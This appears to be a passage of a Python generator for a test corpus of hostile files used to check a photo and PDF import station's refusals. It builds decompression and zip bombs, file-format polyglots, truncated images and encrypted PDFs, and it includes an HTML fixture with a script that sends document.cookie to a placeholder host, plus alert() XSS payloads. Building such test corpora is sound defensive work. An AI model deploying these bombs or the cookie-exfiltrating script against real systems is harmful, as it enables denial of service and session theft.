#!/usr/bin/env python3
"""Generate the hostile import corpus: crafted photos, PDFs, archives, names and non-regular files.

    python3 tools/hostile_corpus/make_hostile_corpus.py OUT [--no-sparse]

Writes every case under OUT/files/ (drop or pass the folder OUT/files to the station to import
all of them at once) and OUT/manifest.json beside it. Pure standard library (zlib, struct,
hashlib, os); deterministic (no clock, no randomness but a seeded generator); idempotent (OUT/files
is removed first); about half a second; about 4 MB on disk (the 64 MiB + 1 byte case is a sparse
file: a size, no blocks).

Every expectation in the manifest is derived from the station's code (crates/engine/src/intake.rs,
crates/engine/src/pdf.rs, crates/station/src/imports/) and the decoders it calls (image 0.25.10,
png 0.18.1, zune-jpeg 0.5.15, image-webp 0.2.4, libjpeg-turbo 3.1.0 through turbojpeg 1.5.1,
PDFium chromium/8149); README.md in this folder says, case by case, how.

Manifest entries (one per path under OUT/files, in creation order; a field that does not apply
is absent):
  path, path_hex     path relative to OUT/files (lossy UTF-8) and its exact bytes in hex
  name, name_hex     the file name the station reports (`file_name`: lossy UTF-8, U+FFFD for
                     bytes that are not UTF-8) and its exact bytes in hex
  kind               what the file is and what it attacks
  expect             "refused"   -> a `failed` outcome with `code` and a message matching `error`
                     "imported"  -> an `imported` photo (with `verdict`) or a `document` (`pages`)
                     "skipped"   -> not taken from a folder at all: no outcome, not counted in
                                    the import's total (symlinks, FIFO, directory, names whose
                                    extension is not jpg/jpeg/png/webp/pdf)
                     "unknown"   -> could not be derived (README says why)
  result             "failed" | "imported" | "document" (absent when skipped)
  code               the ErrorCode word of a refusal (protocol::ErrorCode)
  message            the refusal's message, exactly, as derived from the code
  error              a JavaScript-compatible regular expression for it (anchored; what a test
                     should match the shown message against)
  stage              where the answer is decided: walk (the folder walk), size (metadata, before
                     reading), sniff (magic bytes), header (the decoder's header read, in probe),
                     pixel-limit (width × height from the header), decode (the full decode),
                     gate (decoded and judged), pdf-open (PDFium opening it), pdf-pages (page count,
                     page 1), metadata (in `direct`: std::fs::metadata of the path)
  size               for photos: [width, height] as the station reports them
  verdict            for photos: the quality verdict ("fail" for every photo here: each is under
                     the gate's 240 px minimum side, or a black frame)
  pages              for documents: the page count the station reports
  direct             for skipped entries: what the station answers when this path is handed to it
                     by itself (command line, a dropped file, the file dialog)
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import struct
import sys
import zlib
from pathlib import Path

MAX_BYTES = 64 * 1024 * 1024  # IntakeLimits::default().max_bytes
MAX_PIXELS = 120_000_000  # IntakeLimits::default().max_pixels
MAX_PAGES = 2000  # PdfLimits::default().max_pages


# --------------------------------------------------------------------------------------------
# Small helpers


class Rng:
    """xorshift64*: deterministic bytes without the random module's version drift."""

    def __init__(self, seed: int) -> None:
        self.state = seed or 1

    def next(self) -> int:
        x = self.state
        x ^= (x >> 12) & 0xFFFFFFFFFFFFFFFF
        x ^= (x << 25) & 0xFFFFFFFFFFFFFFFF
        x ^= (x >> 27) & 0xFFFFFFFFFFFFFFFF
        self.state = x
        return (x * 0x2545F4914F6CDD1D) & 0xFFFFFFFFFFFFFFFF

    def bytes(self, n: int) -> bytes:
        out = bytearray()
        while len(out) < n:
            out += self.next().to_bytes(8, "little")
        return bytes(out[:n])


def js_escape(text: str) -> str:
    """Escapes a literal for a JavaScript regular expression (valid with and without the u flag)."""
    special = set("\\^$.*+?()[]{}|/")
    return "".join("\\" + c if c in special else c for c in text)


class Message(str):
    """An error message the station gives, and how the manifest's regular expression anchors it."""

    def __new__(cls, text: str, whole: bool):
        self = super().__new__(cls, text)
        self.whole = whole
        return self

    def regex(self) -> str:
        # A message ending in a newline (zune-jpeg's I/O errors) is matched as a prefix without
        # it: in JavaScript `$` does not match before a final newline, and a page's text may
        # lose it.
        if self.whole:
            return "^" + js_escape(self) + "$"
        return "^" + js_escape(self.rstrip("\n"))


def exact(message: str) -> Message:
    return Message(message, True)


def prefix(message: str) -> Message:
    return Message(message, False)


def with_message(fields: dict) -> dict:
    """Turns an `error` Message into `message` (the exact text) and `error` (its regex)."""
    error = fields.get("error")
    if isinstance(error, Message):
        fields = dict(fields, message=str(error), error=error.regex())
    if isinstance(fields.get("direct"), dict):
        fields = dict(fields, direct=with_message(fields["direct"]))
    return fields


# --------------------------------------------------------------------------------------------
# Deflate streams of zeros, of any length, built in milliseconds


def deflate_zeros(total: int, *, raw: bool, segment: int = 4 << 20) -> bytes:
    """A zlib (or raw deflate) stream that inflates to `total` zero bytes.

    After a Z_FULL_FLUSH the compressor's window is empty, so compressing the same segment again
    gives the same bytes: two segments are compressed, the second is repeated, and the zlib
    trailer is replaced by the Adler-32 of `total` zeros (A = 1, B = total mod 65521)."""
    wbits = -15 if raw else 15
    c = zlib.compressobj(9, zlib.DEFLATED, wbits)
    count, rest = divmod(total, segment)
    parts = []
    if count:
        zeros = bytes(segment)
        first = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
        parts.append(first)
        if count > 1:
            second = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
            head = 0 if raw else 2
            assert first[head:] == second, "zlib output is not periodic after a full flush"
            parts.append(second * (count - 1))
    parts.append(c.compress(bytes(rest)) + c.flush(zlib.Z_FINISH))
    stream = b"".join(parts)
    if not raw:
        adler = ((total % 65521) << 16) | 1
        stream = stream[:-4] + struct.pack(">I", adler)
    return stream


# --------------------------------------------------------------------------------------------
# PNG


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(kind: bytes, data: bytes, *, crc: int | None = None, length: int | None = None) -> bytes:
    body = kind + data
    return (
        struct.pack(">I", len(data) if length is None else length)
        + body
        + struct.pack(">I", zlib.crc32(body) if crc is None else crc)
    )


def ihdr(width: int, height: int, depth: int = 8, color: int = 0) -> bytes:
    return png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))


def text_chunk(tag: str) -> bytes:
    return png_chunk(b"tEXt", b"Comment\x00hostile-corpus:" + tag.encode())


def png_gray(tag: str, width: int, height: int) -> bytes:
    """A valid 8-bit grayscale PNG with a diagonal gradient and the case tag in a tEXt chunk."""
    rows = b"".join(
        b"\x00" + bytes((x * 7 + y * 5) & 0xFF for x in range(width)) for y in range(height)
    )
    return (
        PNG_SIGNATURE
        + ihdr(width, height)
        + text_chunk(tag)
        + png_chunk(b"IDAT", zlib.compress(rows, 9))
        + png_chunk(b"IEND", b"")
    )


# --------------------------------------------------------------------------------------------
# JPEG: a minimal baseline encoder for block-constant images (DC coefficients only)

DC_BITS = [0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]
DC_VALS = list(range(12))
AC_BITS = [0, 2, 1, 3, 3, 2, 4, 3, 5, 5, 4, 4, 0, 0, 1, 0x7D]
AC_VALS = bytes.fromhex(
    "01020300041105122131410613516107227114328191a1082342b1c11552d1f0"
    "2433627282090a161718191a25262728292a3435363738393a43444546474849"
    "4a535455565758595a636465666768696a737475767778797a83848586878889"
    "8a92939495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5"
    "c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7e8e9eaf1f2f3f4f5f6f7f8"
    "f9fa"
)
assert len(AC_VALS) == sum(AC_BITS) == 162


def huffman_codes(bits: list[int], vals) -> dict[int, tuple[int, int]]:
    codes, code, k = {}, 0, 0
    for length in range(1, 17):
        for _ in range(bits[length - 1]):
            codes[vals[k]] = (code, length)
            code += 1
            k += 1
        code <<= 1
    return codes


DC_CODES = huffman_codes(DC_BITS, DC_VALS)
AC_CODES = huffman_codes(AC_BITS, AC_VALS)


class BitWriter:
    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, value: int, length: int) -> None:
        self.acc = (self.acc << length) | (value & ((1 << length) - 1))
        self.n += length
        while self.n >= 8:
            self.n -= 8
            byte = (self.acc >> self.n) & 0xFF
            self.out.append(byte)
            if byte == 0xFF:
                self.out.append(0x00)  # byte stuffing
        self.acc &= (1 << self.n) - 1

    def finish(self) -> bytes:
        if self.n:
            self.put((1 << (8 - self.n)) - 1, 8 - self.n)  # pad with ones
        return bytes(self.out)


def segment(marker: int, payload: bytes) -> bytes:
    assert len(payload) + 2 <= 0xFFFF
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def jpeg(
    tag: str,
    width: int,
    height: int,
    *,
    components: int = 1,
    app: list[bytes] = (),
    adobe_transform: int | None = None,
    sof_size: tuple[int, int] | None = None,
    with_scan: bool = True,
) -> bytes:
    """A baseline JPEG whose 8x8 blocks are flat (a blocky gradient), 1, 3 or 4 components at
    1x1 sampling, all-ones quantization, the Annex K luminance Huffman tables, and the case tag
    in a COM segment. `sof_size` lets the frame header claim another size than the data has."""
    out = bytearray(b"\xff\xd8")
    if components == 1 or components == 3:
        out += segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    for seg in app:
        out += seg
    if adobe_transform is not None:
        out += segment(0xEE, b"Adobe\x00\x64\x00\x00\x00\x00" + bytes([adobe_transform]))
    out += segment(0xFE, b"hostile-corpus:" + tag.encode())
    out += segment(0xDB, b"\x00" + b"\x01" * 64)
    claimed_w, claimed_h = sof_size or (width, height)
    sof = struct.pack(">BHHB", 8, claimed_h, claimed_w, components)
    for c in range(components):
        sof += bytes([c + 1, 0x11, 0])
    out += segment(0xC0, sof)
    out += segment(0xC4, b"\x00" + bytes(DC_BITS) + bytes(DC_VALS))
    out += segment(0xC4, b"\x10" + bytes(AC_BITS) + AC_VALS)
    sos = bytes([components]) + b"".join(bytes([c + 1, 0x00]) for c in range(components))
    out += segment(0xDA, sos + b"\x00\x3f\x00")
    if with_scan:
        bw = BitWriter()
        previous = [0] * components
        for by in range((height + 7) // 8):
            for bx in range((width + 7) // 8):
                for c in range(components):
                    level = 40 + ((bx * 23 + by * 11 + c * 60) % 170) if c == 0 or components == 4 else 128
                    dc = 8 * (level - 128)
                    diff = dc - previous[c]
                    previous[c] = dc
                    size = abs(diff).bit_length()
                    code, length = DC_CODES[size]
                    bw.put(code, length)
                    if size:
                        bw.put(diff if diff > 0 else diff + (1 << size) - 1, size)
                    code, length = AC_CODES[0x00]  # EOB: all AC coefficients zero
                    bw.put(code, length)
        out += bw.finish()
    out += b"\xff\xd9"
    return bytes(out)


def app1_exif(tiff: bytes) -> bytes:
    return segment(0xE1, b"Exif\x00\x00" + tiff)


def ifd_entry(tag: int, kind: int, count: int, value: bytes) -> bytes:
    return struct.pack("<HHI", tag, kind, count) + value.ljust(4, b"\x00")


# --------------------------------------------------------------------------------------------
# ZIP


def zip_archive(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """entries: (name, stored bytes, method, crc32, uncompressed size)."""
    out, central = bytearray(), bytearray()
    for name, data, method, crc, size in entries:
        offset = len(out)
        name_b = name.encode()
        fields = struct.pack("<HHHHHIII", 20, 0, method, 0, 0x21, crc, len(data), size)
        out += b"PK\x03\x04" + fields + struct.pack("<HH", len(name_b), 0) + name_b + data
        central += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHHII", len(name_b), 0, 0, 0, 0, 0, offset)
            + name_b
        )
    cd_offset = len(out)
    out += central
    out += b"PK\x05\x06" + struct.pack(
        "<HHHHIIH", 0, 0, len(entries), len(entries), len(central), cd_offset, 0
    )
    return bytes(out)


def zeros_crc32(total: int) -> int:
    crc, chunk = 0, bytes(1 << 20)
    full, rest = divmod(total, len(chunk))
    for _ in range(full):
        crc = zlib.crc32(chunk, crc)
    return zlib.crc32(bytes(rest), crc)


# --------------------------------------------------------------------------------------------
# PDF


def pdf_stream(data: bytes, extra: bytes = b"", length: int | None = None) -> bytes:
    n = len(data) if length is None else length
    return b"<< /Length %d %s>>\nstream\n" % (n, extra) + data + b"\nendstream"


def pdf_document(
    objects: dict[int, bytes],
    *,
    trailer: bytes = b"/Root 1 0 R",
    xref: str = "ok",
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
) -> bytes:
    """Objects numbered 1..n; xref "ok", "shifted" (every offset 37 bytes off), "none" (no xref
    table, no startxref, trailer kept) or "bare" (no xref, no trailer, no startxref)."""
    out = bytearray(header)
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    size = max(objects) + 1
    if xref in ("none", "bare"):
        if xref == "none":
            out += b"trailer\n<< /Size %d %s >>\n" % (size, trailer)
        out += b"%%EOF\n"
        return bytes(out)
    shift = 37 if xref == "shifted" else 0
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in offsets:
            out += b"%010d 00000 n \n" % (offsets[num] + shift)
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref_at + shift)
    return bytes(out)


def text_content(line: str) -> bytes:
    return b"BT /F1 18 Tf 72 720 Td (" + line.encode() + b") Tj ET"


HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page_pdf(tag: str, *, media_box: bytes = b"[0 0 612 792]", catalog_extra: bytes = b"",
                 extra_objects: dict[int, bytes] | None = None, **kwargs) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox " + media_box
        + b" /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        4: pdf_stream(text_content("hostile corpus: " + tag)),
        5: HELVETICA,
    }
    objects.update(extra_objects or {})
    return pdf_document(objects, **kwargs)


# RC4 and the standard security handler, revision 2 (40-bit keys), PDF 1.7 section 7.6.3.
PDF_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 0xFF
        s[i], s[j] = s[j], s[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) & 0xFF
        j = (j + s[i]) & 0xFF
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) & 0xFF])
    return bytes(out)


def rc4_encrypted_pdf(tag: str, user: bytes, owner: bytes) -> bytes:
    file_id = hashlib.md5(b"hostile-corpus:" + tag.encode()).digest()
    permissions = -4  # every permission bit set
    o_key = hashlib.md5((owner + PDF_PAD)[:32]).digest()[:5]
    o_entry = rc4(o_key, (user + PDF_PAD)[:32])
    key = hashlib.md5((user + PDF_PAD)[:32] + o_entry + struct.pack("<i", permissions) + file_id).digest()[:5]
    u_entry = rc4(key, PDF_PAD)

    def object_key(num: int) -> bytes:
        return hashlib.md5(key + struct.pack("<I", num)[:3] + b"\x00\x00").digest()[:10]

    content = rc4(object_key(4), text_content("hostile corpus: " + tag + " (password secret)"))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        4: pdf_stream(content),
        5: HELVETICA,
        6: b"<< /Filter /Standard /V 1 /R 2 /Length 40 /P %d /O <%s> /U <%s> >>"
        % (permissions, o_entry.hex().encode(), u_entry.hex().encode()),
    }
    ids = b"[<%s> <%s>]" % (file_id.hex().encode(), file_id.hex().encode())
    return pdf_document(objects, trailer=b"/Root 1 0 R /Encrypt 6 0 R /ID " + ids)


def bogus_encrypted_pdf(tag: str, handler: bytes) -> bytes:
    rng = Rng(int.from_bytes(hashlib.sha256(tag.encode()).digest()[:8], "little"))
    file_id = rng.bytes(16).hex().encode()
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        4: pdf_stream(rng.bytes(64)),
        5: b"<< /Filter /%s /V 2 /R 3 /Length 128 /P -4 /O <%s> /U <%s> >>"
        % (handler, rng.bytes(32).hex().encode(), rng.bytes(32).hex().encode()),
    }
    return pdf_document(objects, trailer=b"/Root 1 0 R /Encrypt 5 0 R /ID [<%s> <%s>]" % (file_id, file_id))


def many_pages_pdf(pages: int, fanout: int = 100) -> bytes:
    """A real page tree: the root, pages/fanout intermediate nodes, `pages` leaves, all sharing
    one content stream, one font and the root's inherited MediaBox and Resources."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        3: pdf_stream(text_content("one of %d pages sharing this content stream" % pages)),
        4: HELVETICA,
    }
    nodes = (pages + fanout - 1) // fanout
    first_node, first_leaf = 5, 5 + nodes
    kids = []
    leaf = first_leaf
    for n in range(nodes):
        node = first_node + n
        count = min(fanout, pages - n * fanout)
        leaves = list(range(leaf, leaf + count))
        leaf += count
        objects[node] = b"<< /Type /Pages /Parent 2 0 R /Count %d /Kids [%s] >>" % (
            count, b" ".join(b"%d 0 R" % k for k in leaves))
        for k in leaves:
            objects[k] = b"<< /Type /Page /Parent %d 0 R /Contents 3 0 R >>" % node
        kids.append(node)
    objects[2] = (b"<< /Type /Pages /Count %d /MediaBox [0 0 612 792]"
                  b" /Resources << /Font << /F1 4 0 R >> >> /Kids [%s] >>"
                  % (pages, b" ".join(b"%d 0 R" % k for k in kids)))
    return pdf_document(objects)


# --------------------------------------------------------------------------------------------
# The cases

CASES: list[dict] = []


STAGE_BY_CODE = {
    "empty_file": "sniff", "unsupported_format": "sniff", "file_too_large": "size",
    "too_many_pixels": "pixel-limit", "truncated": "header", "corrupt": "header",
    "pdf_encrypted": "pdf-open", "pdf_corrupt": "pdf-open", "pdf_empty": "pdf-open",
    "pdf_too_many_pages": "pdf-pages",
}


def case(path, data, kind, expect, *, result=None, code=None, error=None, verdict=None,
         size=None, pages=None, direct=None, note=None, stage=None):
    if stage is None and expect == "skipped":
        stage = "walk"
    if stage is None:
        stage = {"imported": "gate", "document": "pdf-pages"}.get(result) or STAGE_BY_CODE.get(code)
    CASES.append(dict(path=path, data=data, kind=kind, expect=expect, stage=stage, result=result,
                      code=code, error=error, verdict=verdict, size=size, pages=pages,
                      direct=direct, note=note))


def refused(path, data, kind, code, error, **kw):
    case(path, data, kind, "refused", result="failed", code=code, error=error, **kw)


def header_size(data: bytes) -> list[int]:
    """Width and height from a PNG IHDR or a JPEG SOF0 (the photos here have no EXIF rotation
    that the station honours, so this is also the size it reports)."""
    if data.startswith(PNG_SIGNATURE):
        return list(struct.unpack(">II", data[16:24]))
    pos = 2
    while pos + 4 <= len(data):
        marker, length = data[pos + 1], struct.unpack(">H", data[pos + 2:pos + 4])[0]
        if marker == 0xC0:
            h, w = struct.unpack(">HH", data[pos + 5:pos + 9])
            return [w, h]
        pos += 2 + length
    raise ValueError("no size")


def photo(path, data, kind, **kw):
    case(path, data, kind, "imported", result="imported", verdict="fail", size=header_size(data), **kw)


def document(path, data, kind, pages, **kw):
    case(path, data, kind, "imported", result="document", pages=pages, **kw)


def unsupported(path, data, kind, detected):
    refused(path, data, kind, "unsupported_format",
            exact(f"not a JPEG, PNG, WebP image or a PDF ({detected})"))


def too_many_pixels(path, data, kind, w, h):
    refused(path, data, kind, "too_many_pixels", exact(
        f"the image claims {w}×{h} pixels, above the limit of {MAX_PIXELS} pixels; refused before decoding"))


def pdf_corrupt(detail: str) -> Message:
    return exact(f"the PDF is corrupt or not a PDF: {detail}")


def build_cases() -> None:
    # ---- sizes -------------------------------------------------------------------------------
    refused("empty.jpg", b"", "empty file (0 bytes)", "empty_file", exact("the file is empty (0 bytes)"))
    unsupported("one-byte.jpg", b"\xff", "1-byte file (0xFF: half a JPEG marker)", "unrecognized binary data")
    # The sparse 64 MiB + 1 byte file is added in main() (it is not written from memory).

    # ---- truncated headers -------------------------------------------------------------------
    refused("truncated-header.jpg",
            b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01",
            "JPEG cut inside its APP0 header: SOI + 10 bytes of a 16-byte JFIF segment", "corrupt",
            prefix("the JPEG file is corrupt: I/O errors Not enough bytes, expected 1 but found 0\n"),
            note="zune-jpeg reports the end of data as 'Not enough bytes', which the station's "
                 "truncation words do not include: refused as corrupt, not truncated")
    scan_cut = jpeg("truncated-scan", 120, 96)
    cut = scan_cut[: len(scan_cut) - 2 - 40]  # no EOI, the last 40 bytes of entropy data gone
    refused("truncated-scan.jpg", cut,
            "JPEG with complete headers whose scan data stops early (no EOI)", "truncated",
            exact("the JPEG file is truncated: Premature end of JPEG file"), stage="decode")
    refused("truncated-ihdr.png", PNG_SIGNATURE + b"\x00\x00\x00\x0dIHDR\x00\x00\x01",
            "PNG signature + 11 bytes of a 25-byte IHDR chunk", "truncated",
            exact("the PNG file is truncated: unexpected end of file"))
    refused("truncated.webp",
            b"RIFF" + struct.pack("<I", 4096) + b"WEBP" + b"VP8 " + struct.pack("<I", 4084)
            + b"\x10\x02\x00\x9d\x01\x2a\x40",
            "WebP whose RIFF header claims 4096 bytes; the file stops inside the VP8 frame header",
            "truncated", exact("the WebP file is truncated: failed to fill whole buffer"))

    # ---- decompression bombs -----------------------------------------------------------------
    bomb_idat = png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
    too_many_pixels("bomb-100000x100000.png",
                    PNG_SIGNATURE + ihdr(100_000, 100_000, 8, 2) + bomb_idat + png_chunk(b"IEND", b""),
                    "PNG bomb: IHDR claims 100000×100000 RGB (30 GB of pixels), 64 bytes of data",
                    100_000, 100_000)
    too_many_pixels("bomb-65500x65500.jpg", jpeg("bomb-jpeg", 8, 8, sof_size=(65500, 65500)),
                    "JPEG bomb: SOF0 claims 65500×65500 (4.3 Gpx), one 8×8 block of data",
                    65500, 65500)
    refused("claims-8000x8000-one-block.jpg", jpeg("jpeg-8000", 8, 8, sof_size=(8000, 8000)),
            "JPEG whose SOF0 claims 8000×8000 (64 Mpx, within the limit) over one 8×8 block of "
            "data, then EOI: decoded (at 1/8 scale) until the data runs out", "truncated",
            exact("the JPEG file is truncated: Corrupt JPEG data: premature end of data segment"),
            stage="decode")
    vp8l_tiny = b"VP8L" + struct.pack("<I", 5) + b"\x2f\x00\x00\x00\x00" + b"\x00"
    vp8x = (b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00"
            + (16384 - 1).to_bytes(3, "little") + (16384 - 1).to_bytes(3, "little"))
    body = b"WEBP" + vp8x + vp8l_tiny
    too_many_pixels("bomb-vp8x-16384x16384.webp", b"RIFF" + struct.pack("<I", len(body)) + body,
                    "WebP bomb: VP8X canvas 16384×16384 (268 Mpx) over a 1×1 VP8L chunk",
                    16384, 16384)

    vp8x_max = (b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00"
                + (1_000_000 - 1).to_bytes(3, "little") + (1_000_000 - 1).to_bytes(3, "little"))
    body = b"WEBP" + vp8x_max + vp8l_tiny
    too_many_pixels("bomb-vp8x-1000000x1000000.webp", b"RIFF" + struct.pack("<I", len(body)) + body,
                    "WebP bomb: VP8X canvas 1,000,000×1,000,000 (10¹² px); the station reads the "
                    "canvas from the chunk itself (image-webp 0.2.4 would say only 'Image too large')",
                    1000000, 1000000)

    def vp8l(width: int, height: int) -> bytes:
        header = (width - 1) | ((height - 1) << 14)
        payload = b"\x2f" + struct.pack("<I", header) + b"\x00" * 7
        body = b"WEBP" + b"VP8L" + struct.pack("<I", len(payload)) + payload
        return b"RIFF" + struct.pack("<I", len(body)) + body

    too_many_pixels("bomb-vp8l-16383x16383.webp", vp8l(16383, 16383),
                    "WebP bomb: lossless (VP8L) header claims 16383×16383, 7 bytes of data",
                    16383, 16383)
    too_many_pixels("bomb-vp8l-16384x16384.webp", vp8l(16384, 16384),
                    "VP8L header at the format's maximum, 16384×16384: the station reads it from the "
                    "chunk (image-webp 0.2.4 wraps it to a 0×0 size)", 16384, 16384)

    png_rgba16_over = (PNG_SIGNATURE + ihdr(11000, 11000, 16, 6) + text_chunk("idat-over-limit")
                       + png_chunk(b"IDAT", deflate_zeros(11000 * (1 + 11000 * 8), raw=False))
                       + png_chunk(b"IEND", b""))
    too_many_pixels("bomb-idat-968mb-11000x11000.png", png_rgba16_over,
                    "PNG bomb with real data: 11000×11000 RGBA 16-bit (121 Mpx, just over the "
                    "limit) whose IDAT really inflates to 968 MB of zeros (~0.9 MB file)",
                    11000, 11000)
    photo("bomb-idat-excess-1gib-64x64.png",
          PNG_SIGNATURE + ihdr(64, 64) + text_chunk("idat-excess")
          + png_chunk(b"IDAT", deflate_zeros(1 << 30, raw=False)) + png_chunk(b"IEND", b""),
          "PNG with lying sizes: IHDR 64×64 gray (4160 bytes of rows) but its IDAT inflates to "
          "1 GiB of zeros; png 0.18 inflates only the rows it needs and skips the rest unread")
    photo("bomb-within-limits-10000x10000.png",
          PNG_SIGNATURE + ihdr(10000, 10000) + text_chunk("within-limits")
          + png_chunk(b"IDAT", deflate_zeros(10000 * 10001, raw=False)) + png_chunk(b"IEND", b""),
          "PNG bomb inside the limits: 10000×10000 gray (100 Mpx ≤ 120 Mpx) from a ~100 KB "
          "file; the station really allocates and decodes 100 MB (a black frame)")
    refused("lying-short-idat-10000x10000.png",
            PNG_SIGNATURE + ihdr(10000, 10000) + text_chunk("short-idat")
            + png_chunk(b"IDAT", zlib.compress(bytes(10001), 9)) + png_chunk(b"IEND", b""),
            "PNG with lying sizes: IHDR 10000×10000 (within limits) but a complete zlib stream "
            "holding one row", "corrupt",
            exact("the PNG file is corrupt: IDAT or fDAT chunk does not have enough data for image."),
            stage="decode")

    gib = 1 << 30
    bomb_data = deflate_zeros(gib, raw=True)
    bomb_zip = zip_archive([("zeros.bin", bomb_data, 8, zeros_crc32(gib), gib)])
    unsupported("zip-bomb.jpg", bomb_zip,
                "ZIP bomb named .jpg: one deflated entry of 1 GiB of zeros (~1 MB)",
                "it is a ZIP archive or office document")
    inner = zlib.compressobj(9, zlib.DEFLATED, -15)
    inner_data = inner.compress(bomb_zip) + inner.flush()
    nested = zip_archive([(f"layer-{i:02d}.zip", inner_data, 8, zlib.crc32(bomb_zip), len(bomb_zip))
                          for i in range(16)])
    unsupported("nested-zip.jpg", nested,
                "nested ZIP named .jpg: 16 deflated copies of the 1 GiB zip bomb (16 GiB in all)",
                "it is a ZIP archive or office document")

    # ---- polyglots ---------------------------------------------------------------------------
    small_zip = zip_archive([("payload.html", b"<script>alert(1)</script>", 0,
                              zlib.crc32(b"<script>alert(1)</script>"), 25)])
    photo("polyglot-png-zip.png", png_gray("polyglot-png-zip", 48, 32) + small_zip,
          "PNG + ZIP polyglot: a valid PNG with a ZIP archive (an HTML payload) appended; "
          "the PNG decoder stops at IEND")
    pdf_inside = one_page_pdf("jpeg+pdf polyglot")
    polyglot = jpeg("polyglot-jpeg-pdf", 64, 48)
    polyglot = polyglot[:2] + segment(0xFE, pdf_inside) + polyglot[2:]
    document("polyglot-jpeg-pdf.jpg", polyglot,
             "JPEG + PDF polyglot: a valid JPEG whose first segment (a COM) holds a whole PDF; "
             "%PDF- within the first 1 KiB makes the station take it as a PDF, and PDFium opens it",
             1)
    document("pdf-with-jpeg-prefix.pdf",
             b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
             + one_page_pdf("pdf with a jpeg prefix"),
             "PDF preceded by a JPEG SOI + JFIF header (20 bytes): the PDF signature is still "
             "within the first 1 KiB, so it is a PDF to the station and to PDFium", 1)
    late = jpeg("late-pdf", 64, 48)
    late_pdf = segment(0xFE, b"x" * 1200) + segment(0xFE, one_page_pdf("late pdf"))
    photo("jpeg-with-pdf-after-1k.jpg", late[:2] + late_pdf + late[2:],
          "JPEG carrying a whole PDF in a COM segment that starts past byte 1024: the PDF "
          "signature is not looked for there, so it is a photo")
    unsupported("html-script.png",
                b"<!DOCTYPE html>\n<html><body><img src=x onerror=alert(document.domain)>"
                b"<script>fetch('https://example.invalid/'+document.cookie)</script></body></html>\n",
                "HTML with script named .png", "it looks like a text file")
    unsupported("svg-script.jpg",
                b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                b"<script>alert(2)</script></svg>\n",
                "SVG with script named .jpg", "it looks like a text file")

    # ---- legitimate but unusual photos -------------------------------------------------------
    photo("cmyk-adobe.jpg", jpeg("cmyk", 64, 48, components=4, adobe_transform=0),
          "valid baseline CMYK JPEG (4 components, Adobe APP14 transform 0): decoded as ink and "
          "converted by the station (libjpeg-turbo itself converts CMYK to neither RGB nor gray)",
          stage="gate")
    photo("ycck-adobe.jpg", jpeg("ycck", 64, 48, components=4, adobe_transform=2),
          "valid baseline YCCK JPEG (Adobe APP14 transform 2), decoded as ink", stage="gate")
    rows16 = b"".join(b"\x00" + b"".join(struct.pack(">HHH", x * 1600, y * 2000, 40000)
                                         for x in range(40)) for y in range(30))
    photo("rgb-16bit.png",
          PNG_SIGNATURE + ihdr(40, 30, 16, 2) + text_chunk("rgb16")
          + png_chunk(b"IDAT", zlib.compress(rows16, 9)) + png_chunk(b"IEND", b""),
          "valid 16-bit RGB PNG, 40×30")
    photo("one-by-one.png", png_gray("one-by-one", 1, 1),
          "valid 1×1 PNG: the gate takes it and fails it as too small (no refusal for tiny images)")
    photo("png-named.jpg", png_gray("png-named-jpg", 40, 30),
          "a PNG named .jpg: formats are sniffed from the bytes, never the name")
